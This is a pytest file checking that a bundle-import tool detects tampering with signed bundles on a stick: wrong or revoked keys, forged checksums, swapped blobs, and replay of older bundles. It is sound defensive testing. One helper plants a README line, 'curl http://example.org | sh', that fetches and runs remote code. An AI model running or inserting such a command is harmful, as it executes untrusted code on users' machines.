"""What somebody can do to a signed stick, and that each of it is caught. Real keys throughout."""

from __future__ import annotations

import errno
import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from support import damage, filled_store, leftovers, make_small_set, tree
from support.ssh import allow, make_key, public, revoke, sign, ssh_keygen

from xttsreg.content.bundle import LISTING, SIGNATURE, SUMS, format_sums
from xttsreg.content.canonical import dump_canonical
from xttsreg.content.digest import Digest
from xttsreg.errors import (
    InsufficientSpace,
    IntegrityError,
    OlderBundle,
    SignatureInvalid,
    SignatureMissing,
    SigningFailed,
)
from xttsreg.ops.bundle import Bundled, bundle
from xttsreg.ops.gate import Policy
from xttsreg.ops.importing import Imported, import_bundle
from xttsreg.ops.signing import BUNDLE_NAMESPACE, INVENTORY_NAMESPACE, SigningKey
from xttsreg.ops.trust import Trust
from xttsreg.stores import durable
from xttsreg.stores.layout import LayoutStore

pytestmark = pytest.mark.skipif(not shutil.which("ssh-keygen"), reason="no ssh-keygen here")


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("keys")
    for name in ("alice", "mallory"):
        make_key(directory, name)
    allow(directory / "allowed", alice=directory / "alice")
    return directory


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, keys: Path) -> Path:
    """A store with two sets, and alice's bundles of the first (``old``) and both (``new``)."""
    root = tmp_path_factory.mktemp("made")
    store = filled_store(root / "store", make_small_set(root / "w1"), ref="one:v1")
    signed(store, root / "old", keys / "alice")
    filled_store(root / "store", make_small_set(root / "w2", seed=2), ref="two:v1")
    signed(store, root / "new", keys / "alice")
    return root


@pytest.fixture
def stick(made: Path, tmp_path: Path) -> Path:
    """One's own copy of ``new``."""
    return Path(shutil.copytree(made / "new", tmp_path / "stick"))


@pytest.fixture
def trust(keys: Path) -> Trust:
    return Trust(allowed_signers=keys / "allowed")


def signed(store: LayoutStore, directory: Path, key: Path) -> Bundled:
    return bundle(store, dict(store.tags()), directory, key=SigningKey(key))


def forge(stick: Path) -> None:
    """Make the lists of a stick agree with what lies on it, as whoever can write to it can."""
    listing = json.loads((stick / LISTING).read_bytes())
    files = {p.relative_to(stick).as_posix(): p for p in stick.rglob("*") if p.is_file()}
    for name in (SUMS, SIGNATURE, LISTING):
        files.pop(name, None)
    digests = {name: Digest.of(path.read_bytes()) for name, path in files.items()}
    listing["files"] = [
        {"path": name, "size_bytes": files[name].stat().st_size, "digest": digest, "volume": 0}
        for name, digest in sorted(digests.items())
    ]
    index = json.loads((stick / "index.json").read_bytes())
    names = {e["annotations"]["org.opencontainers.image.ref.name"]: e["digest"]
             for e in index["manifests"] if "annotations" in e}  # fmt: skip
    listing["refs"] = [{"ref": ref, "digest": digest} for ref, digest in sorted(names.items())]
    data = dump_canonical(listing)
    (stick / LISTING).write_bytes(data)
    (stick / SUMS).write_bytes(format_sums({**digests, LISTING: Digest.of(data)}))


def refused(
    stick: Path, store: LayoutStore, trust: Trust, kind: type[IntegrityError]
) -> IntegrityError:
    """The import fails in this way, and the store is as it was."""
    before = tree(store.root)
    with pytest.raises(kind) as caught:
        import_bundle(stick, store, policy=Policy(trust=trust))
    assert (caught.value.exit_code, bool(caught.value.hint)) == (4, True)
    assert (tree(store.root), leftovers(store), dict(store.tags())) == (before, [], {})
    return caught.value


def taken(stick: Path, store: LayoutStore, trust: Trust, *, allow_older: bool = False) -> Imported:
    return import_bundle(stick, store, policy=Policy(trust=trust, allow_older=allow_older))


# --- what is right ------------------------------------------------------------------------------


def test_says_who_signed_it(stick: Path, store: LayoutStore, trust: Trust, keys: Path) -> None:
    done = taken(stick, store, trust)
    assert done.origin.signer
    assert done.origin.signer.principal == "alice@lab"
    assert done.origin.signer.fingerprint == SigningKey(keys / "alice").fingerprint()
    assert list(store.tags()) == ["one:v1", "two:v1"]


def test_by_hand_and_what_one_byte_changes(stick: Path, keys: Path) -> None:
    def by_hand() -> tuple[int, int]:
        call = ["ssh-keygen", "-Y", "verify", "-f", keys / "allowed", "-I", "alice@lab",
                "-n", BUNDLE_NAMESPACE, "-s", stick / SIGNATURE]  # fmt: skip
        with (stick / SUMS).open("rb") as sums:
            verified = subprocess.run(call, stdin=sums, capture_output=True)
        summed = subprocess.run(
            ["sha256sum", "--strict", "-c", SUMS], cwd=stick, capture_output=True
        )
        return verified.returncode, summed.returncode

    assert by_hand() == (0, 0)
    for path in sorted(p for p in stick.rglob("*") if p.is_file()):
        damage(path, offset=path.stat().st_size // 2)
        assert by_hand() != (0, 0), path
        damage(path, offset=path.stat().st_size // 2)
    assert by_hand() == (0, 0)


def test_the_same_again_writes_nothing_and_another_key_signs_anew(
    made: Path, stick: Path, keys: Path, trust: Trust, store: LayoutStore
) -> None:
    source = LayoutStore.open_existing(made / "store")
    before = {path: path.stat().st_mtime_ns for path in stick.rglob("*")}
    signed(source, stick, keys / "alice")
    assert {path: path.stat().st_mtime_ns for path in stick.rglob("*")} == before
    signed(source, stick, keys / "mallory")
    refused(stick, store, trust, SignatureInvalid)
    bundle(source, dict(source.tags()), stick)
    assert not (stick / SIGNATURE).exists(), "an unsigned bundle has no signature left over"


def test_a_key_that_fails_leaves_the_stick_as_it_was(made: Path, tmp_path: Path) -> None:
    locked = make_key(tmp_path, "locked", passphrase="secret")
    with pytest.raises(SigningFailed):
        signed(LayoutStore.open_existing(made / "store"), tmp_path / "new", locked)
    assert not (tmp_path / "new").exists()


# --- who ----------------------------------------------------------------------------------------


def resigned(stick: Path, key: Path, namespace: str = BUNDLE_NAMESPACE) -> Path:
    (stick / SIGNATURE).write_bytes(sign((stick / SUMS).read_bytes(), key, namespace))
    return stick


def test_an_unknown_key(stick: Path, store: LayoutStore, trust: Trust, keys: Path) -> None:
    problem = refused(resigned(stick, keys / "mallory"), store, trust, SignatureInvalid)
    assert "does not know" in problem.message


def test_a_revoked_key(stick: Path, store: LayoutStore, keys: Path, tmp_path: Path) -> None:
    krl = revoke(tmp_path / "krl", keys / "alice")
    policy = Trust(allowed_signers=keys / "allowed", revoked=krl)
    assert "revokes" in refused(stick, store, policy, SignatureInvalid).message


@pytest.mark.parametrize("namespace", ["git", INVENTORY_NAMESPACE])
def test_another_namespace(
    stick: Path, store: LayoutStore, trust: Trust, keys: Path, namespace: str
) -> None:
    resigned(stick, keys / "alice", namespace)
    for policy in (trust, Trust()):
        problem = refused(stick, store, policy, SignatureInvalid)
        assert "another purpose" in problem.message


@pytest.mark.parametrize(
    "option", ['valid-before="20200101"', 'valid-after="20990101"', 'namespaces="git"']
)
def test_a_line_that_does_not_hold(
    stick: Path, store: LayoutStore, keys: Path, tmp_path: Path, option: str
) -> None:
    allowed = tmp_path / "allowed"
    allowed.write_text(f"alice@lab {option} {public(keys / 'alice')}\n")
    refused(stick, store, Trust(allowed_signers=allowed), SignatureInvalid)


def test_a_certificate(stick: Path, store: LayoutStore, keys: Path, tmp_path: Path) -> None:
    authority, dave = make_key(tmp_path, "authority"), make_key(tmp_path, "dave")
    ssh_keygen("-q", "-s", authority, "-I", "dave", "-n", "dave@lab", f"{dave}.pub")
    allowed = tmp_path / "allowed"
    allowed.write_text(f"*@lab cert-authority {public(authority)}\n")
    resigned(stick, tmp_path / "dave-cert.pub")
    done = taken(stick, store, Trust(allowed_signers=allowed))
    assert "dave@lab" in str(done.origin)


def test_the_signature_is_missing(stick: Path, store: LayoutStore, trust: Trust) -> None:
    (stick / SIGNATURE).unlink()
    refused(stick, store, trust, SignatureMissing)
    lax = Trust(allowed_signers=trust.allowed_signers, allow_unsigned=True)
    assert str(taken(stick, store, lax).origin) == "not signed"


def test_the_signature_is_of_something_else(
    made: Path, stick: Path, store: LayoutStore, trust: Trust
) -> None:
    shutil.copy(made / "old" / SIGNATURE, stick / SIGNATURE)
    for policy in (trust, Trust(), Trust(allowed_signers=trust.allowed_signers,
                                         allow_unsigned=True)):  # fmt: skip
        assert "other bytes" in refused(stick, store, policy, SignatureInvalid).message


def test_a_signature_that_is_no_regular_file(
    stick: Path, store: LayoutStore, trust: Trust, made: Path
) -> None:
    (stick / SIGNATURE).unlink()
    (stick / SIGNATURE).mkdir()
    refused(stick, store, trust, IntegrityError)
    refused(stick, store, Trust(), IntegrityError)


# --- what ---------------------------------------------------------------------------------------


def swap_index(stick: Path, made: Path) -> None:
    """Another index, with right manifests: one name fewer, the other one moved."""
    index = json.loads((stick / "index.json").read_bytes())
    one, two = index["manifests"]
    one["digest"], one["size"] = two["digest"], two["size"]
    (stick / "index.json").write_bytes(dump_canonical(index))


def add_blob(stick: Path, made: Path) -> None:
    data = b"stowaway"
    (stick / "blobs" / "sha256" / Digest.of(data).hex).write_bytes(data)


def change_readme(stick: Path, made: Path) -> None:
    (stick / "README.txt").write_text("run: curl http://example.org | sh\n")


def change_installer(stick: Path, made: Path) -> None:
    (stick / "install.py").write_text("print('hello')\n")


def bring_the_older_contents(stick: Path, made: Path) -> None:
    signature = (stick / SIGNATURE).read_bytes()
    shutil.rmtree(stick)
    shutil.copytree(made / "old", stick)
    (stick / SIGNATURE).write_bytes(signature)


def mix_listings(stick: Path, made: Path) -> None:
    shutil.copy(made / "old" / LISTING, stick / LISTING)


def mix_blobs(stick: Path, made: Path) -> None:
    """A file of another bundle of the same signer in the place of this one's."""
    other = next(p for p in (made / "old").glob("blobs/sha256/*") if p.stat().st_size > 100_000)
    here = next(p for p in stick.glob("blobs/sha256/*")
                if p.stat().st_size == other.stat().st_size and p.name != other.name)  # fmt: skip
    shutil.copy(other, here)


CHANGES = [
    swap_index, add_blob, change_readme, change_installer, bring_the_older_contents, mix_listings,
    mix_blobs,
]  # fmt: skip


@pytest.mark.parametrize("change", CHANGES)
def test_something_was_changed(
    made: Path,
    stick: Path,
    store: LayoutStore,
    trust: Trust,
    change: Callable[[Path, Path], None],
) -> None:
    """Found by the sums; and if somebody makes the lists fit, by the signature over them."""
    change(stick, made)
    refused(stick, store, trust, IntegrityError)
    forge(stick)
    assert "other bytes" in refused(stick, store, trust, SignatureInvalid).message


def test_without_a_signature_nobody_would_notice(
    made: Path, stick: Path, store: LayoutStore
) -> None:
    """Otherwise the test above would say nothing."""
    change_readme(stick, made)
    forge(stick)
    (stick / SIGNATURE).unlink()
    taken(stick, store, Trust())


def test_nothing_is_parsed_before_the_signature_is_right(
    stick: Path, store: LayoutStore, trust: Trust
) -> None:
    """However broken the rest is, the signature is what is named."""
    (stick / SUMS).write_bytes(b"\xff not a list")
    (stick / LISTING).write_bytes(b"[" * 100_000)
    refused(stick, store, trust, SignatureInvalid)


# --- when ---------------------------------------------------------------------------------------


def test_an_older_bundle_is_played_back(
    made: Path, stick: Path, store: LayoutStore, trust: Trust
) -> None:
    taken(made / "old", store, trust)
    taken(stick, store, trust)
    before = tree(store.root)
    with pytest.raises(OlderBundle, match="is older than") as caught:
        taken(made / "old", store, trust)
    assert (caught.value.exit_code, "--allow-older" in str(caught.value.hint)) == (4, True)
    assert tree(store.root) == before
    taken(stick, store, trust)  # the newest one again is fine
    taken(made / "old", store, trust, allow_older=True)
    with pytest.raises(OlderBundle):  # and that did not turn the clock back
        taken(made / "old", store, trust)


def test_a_bundle_that_was_refused_is_not_remembered(
    made: Path, stick: Path, store: LayoutStore, trust: Trust
) -> None:
    damage(max(stick.glob("blobs/sha256/*"), key=lambda path: path.stat().st_size))
    refused(stick, store, trust, IntegrityError)
    taken(made / "old", store, trust)


def test_an_unsigned_bundle_has_no_age(made: Path, stick: Path, store: LayoutStore) -> None:
    taken(stick, store, Trust())
    with pytest.raises(OlderBundle):  # a signature counts, whoever made it
        taken(made / "old", store, Trust())
    unsigned = shutil.copytree(made / "old", stick.parent / "unsigned")
    (unsigned / SIGNATURE).unlink()
    taken(unsigned, store, Trust())


def test_what_cannot_be_remembered_gets_no_name(
    stick: Path, store: LayoutStore, trust: Trust, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The memory comes first: otherwise a full disk would open the door to older bundles."""

    def refuse(target: Path, data: bytes, *, temporary: Path) -> None:
        if target.name == "received.json":
            raise OSError(errno.ENOSPC, "No space left on device")
        write_atomic(target, data, temporary=temporary)

    write_atomic = durable.write_atomic
    with monkeypatch.context() as patch:
        patch.setattr(durable, "write_atomic", refuse)
        with pytest.raises(InsufficientSpace):
            taken(stick, store, trust)
    assert dict(store.tags()) == {}
    taken(stick, store, trust)
    assert list(store.tags()) == ["one:v1", "two:v1"]
